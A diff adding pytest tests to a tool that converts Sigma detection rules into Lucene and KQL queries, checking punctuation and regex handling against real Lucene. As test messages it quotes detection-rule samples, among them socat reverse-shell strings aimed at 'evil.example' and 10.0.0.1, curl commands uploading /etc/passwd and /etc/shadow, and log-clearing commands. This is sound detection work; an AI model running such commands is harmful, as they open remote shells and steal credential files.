@@ -468,6 +468,142 @@ def test_punctuation_that_always_ends_a_word_is_dropped(
     assert matched == set(events)  # every message contains the value: none may be missed
 
 
+# Punctuation at an open end that the standard analyser may join to the next word (UAX #29:
+# ':' between letters, ',' between digits, '.' and "'" between two letters or two digits): the
+# word beside it is a lower-case word wildcard on that side, ANDed with the rest's phrase. Every
+# message Sigma matches, the joined forms included, must be found; what else is found is the
+# documented over-match of the warned superset (SigmaHQ's Linux rules hold each of these values).
+JOINING_CASES = [
+    (
+        ".bash_history",  # lnx_auditd_susp_histfile_operations
+        {
+            "dotfile": "cat /root/.bash_history",
+            "joined": "vi x.bash_history",  # one word: "x.bash_history"
+            "longer": "cp .bash_history.bak /tmp",
+            "other": "cat /root/.bashrc",
+        },
+        {"undotted": "cat /root/bash_history"},  # "bash_history" is a word of its own
+    ),
+    (
+        "/syslog.",  # lnx_clear_syslog (there under 'not': refused)
+        {
+            "digit": "mv /var/log/syslog.1 /tmp",  # "syslog" "1"
+            "joined": "rm /var/log/syslog.old",  # one word: "syslog.old"
+            "end": "ls /var/log/syslog. done",
+            "other": "rm /var/log/messages",
+        },
+        {"no_dot": "rm /var/log/syslog", "no_slash": "rm syslog.old"},
+    ),
+    (
+        "Connection refused: too many sessions for this address.",  # lnx_vsftpd_susp_error_messages
+        {
+            "end": "Connection refused: too many sessions for this address.",
+            "joined": "Connection refused: too many sessions for this address.Bye",
+            "host": "Connection refused: too many sessions for this host.",
+        },
+        # the word after the phrase is not enforced to follow it
+        {"apart": "Connection refused: too many sessions for this host; bad address"},
+    ),
+    (
+        "GID=0,",  # lnx_privileged_user_creation
+        {
+            "root": "new user: name=john, UID=0, GID=0, home=/home/john",
+            "joined": "new user: name=x, GID=0,5 home=/x",  # one word: "0,5"
+            "wheel": "new user: name=b, UID=1000, GID=10, home=/home/b",
+        },
+        {"uid_zero": "new user: name=c, UID=0, GID=10, home=/home/c"},
+    ),
+    (
+        "socat exec:",  # lnx_shell_susp_commands ('socat exec:*')
+        {
+            "joined": "socat exec:sh tcp:10.0.0.1:4242",  # one word: "exec:sh"
+            "quoted": "socat exec:'bash -li',pty tcp:10.0.0.1:4242",
+            "other": "socat -d - tcp:10.0.0.1:4242",
+        },
+        {"apart": "socat tcp:10.0.0.1:4242 exec"},
+    ),
+    (
+        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:",  # lnx_shell_susp_rev_shells
+        {
+            "digits": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
+            "joined": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:evil.example:1",
+            "other": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane udp:10.0.0.1:53",
+        },
+        {"apart": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane; ping tcp"},
+    ),
+]
+
+
+@pytest.mark.parametrize(("value", "messages", "over"), JOINING_CASES)
+def test_punctuation_that_may_join_the_next_word_is_a_word_wildcard(
+    lucene, value: str, messages: dict[str, str], over: dict[str, str]
+) -> None:
+    from sigma.collection import SigmaCollection
+
+    from taintsigma import convert_rules
+
+    everything = {**messages, **over}
+    events = {name: {**LINUX_EVENT, "message": m} for name, m in everything.items()}
+    rule = make_rule({"keywords": [_sigma_literal(value)]}, "keywords")
+    [done] = convert_rules(SigmaCollection([rule]), "lucene").conversions
+    assert len(done.warnings) == 1 and "may join" in done.warnings[0]
+    sigma = {name for name, m in everything.items() if value.lower() in m.lower()}
+    assert sigma and not sigma & set(over)
+    [matched] = lucene(events, [done.query])
+    assert sigma <= matched, done.query
+    assert matched - sigma == set(over), done.query
+
+
+def test_generated_joining_values_find_every_message_sigma_matches(lucene) -> None:
+    # Values starting or ending on punctuation that may join a word, in messages that glue
+    # letters, digits and punctuation to that side: the warned superset must find every
+    # message Sigma's case-insensitive substring match finds. (The other side, a letter or
+    # digit, is read as the end of a word: docs/semantics.md, "Reading of contains".)
+    from sigma.collection import SigmaCollection
+
+    from taintsigma import UnsupportedByTarget, convert_rules
+
+    rng = random.Random(20261130)
+    words = ["exec", "GID", "0", "27", "bash_history", "Syslog", "a1", "x_y"]
+    joining = list(".:,;'_")
+    glue = ["", "x", "9", "a.", "1,", "_", "b'", ".z", ",5", ":q", "'s", "Q1"]
+    before_word, after_word = ["", " ", "/", "x "], ["", " ", "/", " x"]
+    values: list[str] = []
+    messages: dict[str, str] = {}
+    while len(values) < 60:
+        word = rng.choice(words)
+        ends_on_joining = rng.random() < 0.6
+        if ends_on_joining:
+            value = f"{rng.choice(['', 'socat ', 'x=', '/', 'rm -f '])}{word}{rng.choice(joining)}"
+        else:
+            value = f"{rng.choice(joining)}{word}{rng.choice(['', ' now', '='])}"
+        if value in values:
+            continue
+        for j in range(4):
+            pre, post = rng.choice(before_word), rng.choice(glue)
+            if not ends_on_joining:
+                pre, post = rng.choice(glue)[::-1], rng.choice(after_word)
+            messages[f"m{len(values)}_{j}"] = pre + value + post
+        values.append(value)
+    events = {name: {**LINUX_EVENT, "message": m} for name, m in messages.items()}
+    queries, kept = [], []
+    for value in values:
+        rule = make_rule({"selection": {"message|contains": _sigma_literal(value)}})
+        try:
+            [done] = convert_rules(SigmaCollection([rule]), "lucene").conversions
+        except UnsupportedByTarget:
+            continue
+        queries.append(done.query)
+        kept.append(value)
+    assert len(kept) >= 50, set(values) - set(kept)
+    missed = {}
+    for value, query, matched in zip(kept, queries, lucene(events, queries)):
+        sigma = {n for n, m in messages.items() if value.lower() in m.lower()}
+        if not sigma <= matched:
+            missed[value] = (query, sorted(messages[n] for n in sigma - matched))
+    assert missed == {}
+
+
 # ---- regular expressions: Sigma's search, translated, run by real Lucene -------------------
 # tests/engines/lucene/LuceneRegexVerdicts.java indexes keyword values and runs either a
 # query_string (the lucene target's output, parsed by the classic QueryParser) or a bare
@@ -659,3 +795,71 @@ def test_generated_regexes_agree_with_python_search(
     # Generated nests of bounded repeats can exceed Lucene's limit; most must run.
     too_complex = _check_against_search(lucene_regex, cases, list(dict.fromkeys(values)))
     assert too_complex <= len(cases) // 5
+
+
+# ---- a regex as KQL's wildcard values (taintsigma.convert.regex_wildcards), in real Lucene --
+# KQL sends a wildcard value on a keyword field as Elasticsearch's `wildcard` query, which is
+# Lucene's WildcardQuery: here each value is written as a query_string wildcard term on the
+# keyword field "v" (every character but letters and digits escaped), ORed, and must accept
+# exactly the values Python's re.search finds.
+
+KQL_REGEX_VALUES = [
+    "wget -O /tmp/x http://h",
+    "wget\t-O\t/tmp/x",
+    "wget -O\n/tmp/x",
+    "wget --output-document=/tmp/x",
+    "wget -o /tmp/x",
+    "wget -O",
+    "-O ",
+    " -O",
+    " -O ",
+    "curl -F a=@/etc/passwd http://h",
+    "curl -T /etc/shadow ftp://h",
+    "curl -d @x http://h",
+    "curl -D x http://h",
+    "curl\u000b-d\u000cx",
+    "curl -f x",
+    "auditctl -D",
+    "auditctl -d",
+    "sshd",
+    "sshd\n",
+    "sudo\nx",
+    "xsshd",
+    "a*b",
+    "ab",
+    "a\nb",
+]
+
+
+def _lucene_wildcard_term(value) -> str:
+    from taintsigma.convert.regex_wildcards import WILDCARD
+
+    return "".join(
+        "*" if c is WILDCARD else c if c.isascii() and c.isalnum() else "\\" + c for c in value
+    )
+
+
+@pytest.mark.parametrize(
+    ("pattern", "flags"),
+    [
+        ("-D", {}),  # proc_creation_lnx_auditctl_clear_rules
+        (r"\s-O\s", {}),  # proc_creation_lnx_wget_download_suspicious_directory
+        (r"\s-[FTd]\s", {}),  # proc_creation_lnx_susp_curl_fileupload
+        ("^(sshd|sudo)$", {}),
+        ("^sudo", {"multiline": True}),
+        (r"a\*b|^ab\Z", {}),
+        ("a.*b", {"dotall": True}),
+    ],
+)
+def test_kql_regex_values_accept_exactly_what_the_search_finds(
+    lucene_regex, pattern: str, flags: dict[str, bool]
+) -> None:
+    from taintsigma.convert.regex_wildcards import regex_to_wildcards
+
+    values = regex_to_wildcards(pattern, **flags)
+    query = "Q\tv:(" + " OR ".join(_lucene_wildcard_term(v) for v in values) + ")"
+    [got] = lucene_regex(KQL_REGEX_VALUES, [query])
+    search = re.compile(pattern, python_flags(flags))
+    expected = {i for i, value in enumerate(KQL_REGEX_VALUES) if search.search(value)}
+    assert expected  # the values exercise the pattern
+    assert got == expected, query
